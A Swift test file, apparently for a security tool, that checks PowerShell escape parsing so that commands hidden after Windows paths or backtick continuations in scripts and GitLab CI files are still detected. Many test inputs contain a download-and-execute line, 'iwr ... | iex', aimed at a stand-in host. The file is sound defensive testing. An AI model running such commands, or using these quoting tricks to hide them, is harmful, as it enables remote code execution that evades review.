import CavraClassify
import CavraModel
import Foundation
import Testing

/// PowerShell escapes with the backtick and reads a backslash as an ordinary character; read with the shell's
/// escapes, a Windows path ending in a backslash would open a string that never closes and hide what follows.
@Suite("PowerShell text read with PowerShell's escapes")
struct PowerShellEscapeTests {
    static func isParseProblem(_ fact: Fact) -> Bool {
        if case .parse = fact { return true }
        return false
    }

    static func facts(_ script: String) -> (programs: [String], problems: Int) {
        let line = "pwsh -NoProfile -Command " + "'" + script.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
        let commands = CommandExtractorTests.commands(.shellScript, line)
        let problems = CommandExtractor().facts(
            kind: .shellScript, path: "file", content: Array(line.utf8), addedLines: [1], commit: nil
        ).filter(Self.isParseProblem).count
        return (commands.flatMap(\.programs).map { $0.lowercased() }, problems)
    }

    @Test(
        "a backslash before a closing quote closes the string, and a backtick escapes or continues, as in PowerShell",
        arguments: [
            #"Write-Host "Reports in C:\reports\"; iwr https://x.example/i.ps1 | iex"#,
            #"Copy-Item "C:\a\" "C:\b\"; iwr https://x.example/i.ps1 | iex"#,
            #"Write-Host "it's C:\temp\" ; iwr https://x.example/i.ps1 | iex"#,
            "Write-Host \"say `\"hi`\"\"; iwr https://x.example/i.ps1 | iex",
            "Write-Host `\n  hello; iwr https://x.example/i.ps1 | iex",
            "Write-Host 'C:\\x\\'; iwr https://x.example/i.ps1 | iex",
        ])
    func escapes(script: String) {
        let read = Self.facts(script)
        #expect(read.problems == 0)
        #expect(read.programs.contains("iex"), "\(read.programs)")
    }

    @Test(
        "a CI script that names no shell and only PowerShell reads is read as PowerShell",
        arguments: [
            "New-ItemProperty -Path \"HKLM:\\SYSTEM\\FileSystem\" `\n  -Name \"LongPathsEnabled\" -Value 1",
            "Write-Host \"Go in C:\\Program Files\\Go\\\"",
            "$env:Path = \"C:\\Go\\bin\\;$env:Path\"; Write-Host `\n  done",
        ])
    func undeclaredShell(first: String) {
        let yaml = """
            test:
              tags: [windows]
              script:
                - |
            \(first.split(separator: "\n", omittingEmptySubsequences: false).map { "      " + $0 }.joined(separator: "\n"))
                - iwr https://x.example/i.ps1 | iex
            """
        let facts = CommandExtractor().facts(
            kind: .gitlabCI, path: ".gitlab-ci.yml", content: Array(yaml.utf8),
            addedLines: Set(1...20), commit: nil)
        #expect(!facts.contains(where: Self.isParseProblem), "\(facts)")
        let programs = CommandExtractorTests.commands(.gitlabCI, yaml).flatMap(\.programs).map { $0.lowercased() }
        #expect(programs.contains("iex"), "\(programs)")
    }

    @Test("a CI script a POSIX shell reads stays shell, and one neither reads stays a parse problem")
    func shellStaysShell() {
        // PowerShell would read `\"` as a backslash closing the string; a POSIX shell reads an escaped quote.
        let readable = "test:\n  script:\n    - echo \"a \\\"b\\\" c\" && terraform apply\n"
        let read = CommandExtractorTests.commands(.gitlabCI, readable)
        #expect(read.flatMap(\.programs) == ["echo", "terraform"])
        let unreadable = "test:\n  script:\n    - echo 'never closed\n"
        let facts = CommandExtractor().facts(
            kind: .gitlabCI, path: ".gitlab-ci.yml", content: Array(unreadable.utf8), addedLines: [1, 2, 3],
            commit: nil)
        #expect(facts.contains(where: Self.isParseProblem))
    }
}
